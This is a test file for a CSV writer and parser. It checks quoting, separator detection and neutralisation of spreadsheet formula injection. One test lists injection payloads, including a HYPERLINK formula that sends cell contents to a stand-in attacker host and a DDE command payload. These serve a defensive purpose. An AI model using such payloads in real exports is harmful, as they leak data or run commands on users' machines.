import { expect, test } from 'vitest'
import { parseCsv, writeCsvLine } from './csv.ts'

test('default: writes a line that reads back', () => {
  const cells = ['plain', 'a,b', 'say "no"', 'two\nlines', '', 'Zoë; 2']
  const text = writeCsvLine(cells)
  expect(text).toBe('plain,"a,b","say ""no""","two\nlines",,"Zoë; 2"\r\n')
  expect(parseCsv(text)).toEqual([{ line: 1, cells }])
})

test.each([
  '=HYPERLINK("http://evil.example?"&A1,"USDC")',
  '+1+cmd|calc',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  ' =1',
  '＝1+1',
])('behavior: writes %j as a text that no spreadsheet runs', (value) => {
  const text = writeCsvLine([value])
  expect(text.startsWith(`"'`)).toBe(true)
  expect(parseCsv(text)[0]?.cells).toEqual([value.trim()])
})

test('behavior: reads semicolons, a byte order mark and every line end', () => {
  expect(parseCsv('\uFEFFaddress;name\r\n0x1; Ann \n\n\n"0x2";"B;C"')).toEqual([
    { line: 1, cells: ['address', 'name'] },
    { line: 2, cells: ['0x1', 'Ann'] },
    { line: 5, cells: ['0x2', 'B;C'] },
  ])
})

test('behavior: takes the first separator, since amounts have commas as well', () => {
  const cells = (text: string) => parseCsv(text)[0]?.cells
  expect(cells('0x1;1,5')).toEqual(['0x1', '1,5'])
  expect(cells('0x1\t1,5;x')).toEqual(['0x1', '1,5;x'])
  expect(cells('"a;b",c;d')).toEqual(['a;b', 'c;d'])
})

test('behavior: reads a file whose last quote is missing', () => {
  expect(parseCsv('a,"b\nc')).toEqual([{ line: 1, cells: ['a', 'b\nc'] }])
  expect(parseCsv('')).toEqual([])
})
